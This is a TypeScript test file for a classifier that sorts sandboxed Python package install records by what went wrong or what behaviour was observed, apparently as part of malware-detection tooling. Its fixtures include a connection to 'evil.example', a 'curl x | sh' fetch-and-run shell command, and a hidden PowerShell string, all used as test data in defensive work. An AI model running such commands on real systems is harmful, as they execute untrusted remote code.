import assert from 'node:assert/strict';
import { test } from 'node:test';
import { cmd, conn, testRecord } from '../population/_test-records.ts';
import { classifyObservability, isLinuxObservable } from './classify-observability.ts';

const failed = (stderr: string) =>
  testRecord('s', '1', { install: { status: 'failed', exit_code: 1, stderr_tail: stderr } });

test('a setup.py importing a module the build env lacks is a missing dependency', () => {
  const r = failed('  File "<string>", line 3\n  ModuleNotFoundError: No module named \'requests\'\n');
  assert.equal(classifyObservability(r), 'missing_dependency');
  assert.equal(isLinuxObservable('missing_dependency'), false);
});

test('Python 2 code crashes early, also when it shows as a missing Python 2 module', () => {
  assert.equal(
    classifyObservability(failed("    print 'hi'\n SyntaxError: Missing parentheses in call to 'print'")),
    'crashes_early',
  );
  assert.equal(
    classifyObservability(failed("ModuleNotFoundError: No module named 'urllib2'")),
    'crashes_early',
  );
  assert.equal(classifyObservability(failed("NameError: name 'raw_input' is not defined")), 'crashes_early');
});

test('Windows-only code is told apart, even when it fails on a missing module', () => {
  assert.equal(
    classifyObservability(failed("ModuleNotFoundError: No module named 'winreg'")),
    'windows_only',
  );
  assert.equal(classifyObservability(failed("KeyError: 'APPDATA'")), 'windows_only');
  assert.equal(classifyObservability(failed('FileNotFoundError: powershell -w hidden')), 'windows_only');
});

test('behaviour the sandbox saw wins over any error message', () => {
  const r = testRecord('s', '1', {
    install: {
      status: 'failed',
      stderr_tail: "KeyError: 'APPDATA'",
      connections: [conn('evil.example', '10.0.0.1', 443)],
    },
  });
  assert.equal(classifyObservability(r), 'observable');
  const shell = testRecord('s', '1', { install: { commands: [cmd(['/bin/sh', '-c', 'curl x | sh'])] } });
  assert.equal(classifyObservability(shell), 'observable');
});

test("pip's own commands are not behaviour; a clean install that showed nothing is our miss", () => {
  const r = testRecord('s', '1', {
    install: { commands: [cmd(['/venv/bin/python3', '-m', 'pip', 'install', 'x'])] },
    import: {},
  });
  assert.equal(classifyObservability(r), 'nothing_observable');
  assert.equal(isLinuxObservable('nothing_observable'), true);
});

test('a timeout and other install failures are classified apart', () => {
  assert.equal(classifyObservability(testRecord('s', '1', { install: { status: 'timeout' } })), 'timed_out');
  assert.equal(classifyObservability(failed('error: invalid command bdist_wheel')), 'install_failed');
});

test("the import phase's own probe is no behaviour: a Windows-only import failure stays Windows-only", () => {
  const r = testRecord('s', '1', {
    install: {},
    import: {
      status: 'failed',
      stderr_tail: "ImportError: cannot import name 'windll' from 'ctypes'",
      commands: [cmd(['/opt/venv/bin/python', '-c', 'import s'])],
      modules: [{ module: 's', status: 'error', error: 'ImportError', duration_ms: 1 }],
    },
  });
  assert.equal(classifyObservability(r), 'windows_only');
});
